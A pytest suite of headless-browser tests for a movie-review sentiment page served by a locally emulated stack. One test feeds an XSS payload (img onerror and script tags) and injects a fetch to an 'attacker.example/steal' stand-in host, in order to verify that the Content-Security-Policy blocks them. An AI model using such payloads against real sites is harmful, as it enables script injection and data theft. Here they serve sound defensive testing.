"""The page in headless Chromium against `sentiment up`, serving a model trained by the test.

Nothing is stubbed: the page loads from the site server with the deployed Content-Security-
Policy, posts to the API emulator, whose Lambda handler asks the endpoint emulator, whose model
was trained a few seconds earlier. Screenshots land in test-artifacts/.
"""

from __future__ import annotations

import json
import os
import re
import signal
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from local_stack_harness import RunningStack, start_stack, train_tiny_model
from test_frontend import ARTIFACTS, LOW_CONFIDENCE_NOTE, submit_review

from sentiment import inference_toolkit
from sentiment.model_loader import JSON, served_artifact

pytestmark = [pytest.mark.slow, pytest.mark.browser]

PRAISE = "A wonderful film with a brilliant plot, and the music is superb."
GIBBERISH = "Zzyzx qwerty blorp fnord."
# A review the tiny model is sure of, as it is not of PRAISE (about 0.66).
CLEAR = "Truly dreadful: dull, lazy and badly paced."
# Words on both sides, a clause that "but" overrides and a negation (issue #16's explanations).
MIXED = "I expected a dull film, but it was not boring: great acting, a weak plot, superb music."
# The page's steps of |contribution| against the largest (frontend/app.js STRENGTHS).
STRENGTHS = [(0.6, "strong"), (0.3, "moderate"), (0.1, "weak")]
# The Lambda's settings, passed through `sentiment up`: give up on a hung model after 1 s.
QUICK_TIMEOUTS = {"SAGEMAKER_READ_TIMEOUT": "1", "SAGEMAKER_MAX_ATTEMPTS": "1"}
# Records what the page's Content-Security-Policy blocks.
RECORD_VIOLATIONS = """() => {
  window.violations = [];
  document.addEventListener("securitypolicyviolation",
    (event) => window.violations.push(event.violatedDirective));
}"""


@pytest.fixture(scope="module")
def model(prepared_imdb: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return train_tiny_model(prepared_imdb, tmp_path_factory.mktemp("model") / "model", seed=3)


@pytest.fixture(scope="module")
def stack(model: Path) -> Iterator[RunningStack]:
    running = start_stack(model, QUICK_TIMEOUTS)
    yield running
    assert running.stop() == 0


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1100, "height": 900})
    opened = context.new_page()
    opened.page_errors = []
    opened.on("pageerror", lambda error: opened.page_errors.append(str(error)))
    yield opened
    context.close()


def model_answer(model: Path, review: str, explain: bool = False) -> dict[str, Any]:
    """The artifact's handlers' answer, without any server."""
    request = {"review": review, "explain": True} if explain else {"review": review}
    with served_artifact(model) as served:
        answer = inference_toolkit.invoke(served, json.dumps(request).encode(), JSON, JSON)
    return json.loads(answer.body)


def expected_marks(review: str, explanation: dict[str, Any]) -> list[str]:
    """The accessible names of the words the page must mark, in text order."""
    read = [word for word in explanation["words"] if word["status"] == "read"]
    largest = max((abs(word["contribution"]) for word in read), default=0.0)
    names = []
    for word in read:
        share = abs(word["contribution"]) / largest if largest > 0 else 0.0
        strength = next((name for least, name in STRENGTHS if share >= least), None)
        if strength is not None:
            direction = "positive" if word["contribution"] > 0 else "negative"
            names.append(
                f"{review[word['start'] : word['end']]}, pushes toward {direction}, {strength}"
            )
    return names


def expected_verdict(model: Path, review: str) -> tuple[str, str]:
    """The badge and confidence the page must show, from the artifact's handlers directly."""
    verdict = model_answer(model, review)
    positive = verdict["sentiment"] == "positive"
    confidence = verdict["score"] if positive else 1 - verdict["score"]
    return ("POSITIVE" if positive else "NEGATIVE"), f"{round(confidence * 100)}%"


def screenshot(page: Any, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / name), full_page=True)


def test_a_review_gets_the_models_verdict(page: Any, stack: RunningStack, model: Path) -> None:
    page.goto(stack.page_url)
    page.evaluate(RECORD_VIOLATIONS)

    submit_review(page, PRAISE)

    page.locator("#result").wait_for(state="visible")
    assert (
        page.locator("#verdict").text_content(),
        page.locator("#confidence-value").text_content(),
    ) == expected_verdict(model, PRAISE)
    assert page.locator("#excerpt").text_content() == PRAISE
    assert page.evaluate("window.violations") == []
    assert page.page_errors == []
    page.wait_for_timeout(400)  # the confidence bar's transition
    screenshot(page, "local-stack-verdict.png")


def test_the_words_that_moved_a_real_verdict_are_marked(
    page: Any, stack: RunningStack, model: Path
) -> None:
    explanation = model_answer(model, MIXED, explain=True)["explanation"]
    names = expected_marks(MIXED, explanation)
    assert names, "the model marks no word of the review"
    page.goto(stack.page_url)
    page.evaluate(RECORD_VIOLATIONS)

    submit_review(page, MIXED)

    region = page.get_by_role("region", name="Why: the words behind the verdict")
    region.wait_for(state="visible")
    assert page.locator("#verdict").text_content() == expected_verdict(model, MIXED)[0]
    marked = page.locator("#marked-review")
    assert marked.text_content() == MIXED
    assert [
        mark.get_attribute("aria-label") for mark in marked.locator("button.word").all()
    ] == names
    for name in names:
        assert marked.get_by_role("button", name=name, exact=True).count() >= 1
    # What the preprocessing set aside ("the", the clause before "but") is shown as such.
    dropped = {word["start"] for word in explanation["words"] if word["status"] == "dropped"}
    assert marked.locator(".is-dropped").count() == len(dropped)
    items = region.get_by_role("listitem").filter(has_text=re.compile(r"[+\u2212]\d"))
    assert items.count() >= 1
    assert page.evaluate("window.violations") == []
    assert page.page_errors == []
    screenshot(page, "local-stack-explained.png")


def test_a_verdict_with_little_to_go_on_is_announced_with_a_note(
    page: Any, stack: RunningStack, model: Path
) -> None:
    assert model_answer(model, GIBBERISH)["low_confidence"] is True
    assert model_answer(model, CLEAR)["low_confidence"] is False
    page.goto(stack.page_url)
    region = page.locator("#result-region")
    note = region.locator("#low-confidence")

    submit_review(page, GIBBERISH)

    note.wait_for(state="visible")
    assert page.locator("#verdict").text_content() == expected_verdict(model, GIBBERISH)[0]
    assert " ".join(note.text_content().split()) == LOW_CONFIDENCE_NOTE
    assert "treat this verdict as a guess" in region.aria_snapshot()
    screenshot(page, "local-stack-low-confidence.png")

    submit_review(page, CLEAR)

    page.wait_for_function(
        "text => document.getElementById('excerpt').textContent === text", arg=CLEAR
    )
    assert page.locator("#verdict").text_content() == expected_verdict(model, CLEAR)[0]
    assert note.is_hidden()
    assert "treat this verdict as a guess" not in region.aria_snapshot()
    assert page.page_errors == []


def test_a_visitor_says_a_verdict_was_wrong_then_takes_it_back(
    page: Any, stack: RunningStack, model: Path
) -> None:
    page.goto(stack.page_url)
    page.evaluate(RECORD_VIOLATIONS)
    submit_review(page, CLEAR)
    feedback = page.get_by_role("region", name="Was this verdict right?")
    feedback.wait_for(state="visible")
    said = model_answer(model, CLEAR)["sentiment"]
    other = "negative" if said == "positive" else "positive"

    feedback.get_by_role("button", name=f"No, it's {other}").click()

    status = feedback.get_by_role("status")
    status.filter(has_text="recorded").wait_for()
    assert status.text_content() == (
        f"Thank you: recorded as {other}. It helps train the next model."
    )
    undo = feedback.get_by_role("button", name="Take it back")
    assert page.evaluate("document.activeElement.id") == "feedback-undo"
    (record,) = [json.loads(path.read_text()) for path in stack.feedback_dir.glob("*.json")]
    assert (record["review"], record["predicted"], record["label"]) == (CLEAR, said, other)
    screenshot(page, "local-stack-feedback.png")

    undo.click()

    status.filter(has_text="Taken back").wait_for()
    assert list(stack.feedback_dir.glob("*.json")) == []
    assert feedback.get_by_role("button", name="Yes, it's right").is_visible()
    assert page.evaluate("window.violations") == []
    assert page.page_errors == []


def test_markup_in_a_review_is_text_and_injected_script_is_blocked(
    page: Any, stack: RunningStack, model: Path
) -> None:
    attack = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script> superb'
    page.goto(stack.page_url)
    page.evaluate(RECORD_VIOLATIONS)

    submit_review(page, attack)
    page.locator("#result").wait_for(state="visible")
    # Script that got into the page anyway (an inline element, a call to another origin).
    page.evaluate(
        """async () => {
          const script = document.createElement("script");
          script.textContent = "window.pwned = 3";
          document.head.append(script);
          try { await fetch("https://attacker.example/steal"); } catch {}
        }"""
    )

    assert page.locator("#excerpt").text_content() == attack
    assert page.locator("#verdict").text_content() == expected_verdict(model, attack)[0]
    assert page.locator("img").count() == 0
    assert page.evaluate("window.pwned") is None
    assert sorted(set(page.evaluate("window.violations"))) == ["connect-src", "script-src-elem"]
    screenshot(page, "local-stack-markup-as-text.png")


def test_a_hung_model_shows_a_readable_error_and_the_page_recovers(
    page: Any, stack: RunningStack
) -> None:
    endpoint = stack.tier_pid("endpoint_emulator")
    page.goto(stack.page_url)

    os.kill(endpoint, signal.SIGSTOP)
    try:
        submit_review(page, PRAISE)
        error = page.get_by_role("alert").locator("#error")
        error.wait_for(state="visible", timeout=15_000)
        assert error.text_content() == "The model took too long to answer; try again."
        assert page.locator("#submit").is_enabled()
        screenshot(page, "local-stack-model-timeout.png")
    finally:
        os.kill(endpoint, signal.SIGCONT)

    page.get_by_role("button", name="Analyze sentiment").click()
    page.locator("#result").wait_for(state="visible", timeout=15_000)
    assert page.locator("#error").is_hidden()


def test_a_killed_endpoint_shows_a_readable_error_and_the_page_recovers_after_its_restart(
    page: Any, stack: RunningStack, model: Path
) -> None:
    api = stack.tier_pid("api_emulator")
    page.goto(stack.page_url)

    since = stack.kill_endpoint()
    # Answered before `sentiment up` restarts the endpoint (a second at least): the connection
    # is refused (503), or it broke mid-request (502).
    submit_review(page, PRAISE)
    error = page.get_by_role("alert").locator("#error")
    error.wait_for(state="visible", timeout=15_000)
    assert error.text_content() in {
        "The model could not be reached; try again.",
        "The connection to the model broke; try again.",
    }
    assert page.locator("#submit").is_enabled()
    screenshot(page, "local-stack-endpoint-killed.png")

    stack.wait_for_endpoint_restart(since)
    page.get_by_role("button", name="Analyze sentiment").click()

    page.locator("#result").wait_for(state="visible", timeout=15_000)
    assert page.locator("#verdict").text_content() == expected_verdict(model, PRAISE)[0]
    assert page.locator("#error").is_hidden()
    assert stack.tier_pid("api_emulator") == api
    assert page.page_errors == []


def test_the_page_explains_when_the_api_is_down(page: Any, model: Path) -> None:
    running = start_stack(model)
    page.goto(running.page_url)
    page.get_by_label("Your review").fill(PRAISE)
    assert running.stop(signal.SIGINT) == 0

    page.get_by_role("button", name="Analyze sentiment").click()

    error = page.locator("#error")
    error.wait_for(state="visible")
    assert error.text_content().startswith("Could not reach the sentiment API")
    screenshot(page, "local-stack-api-down.png")
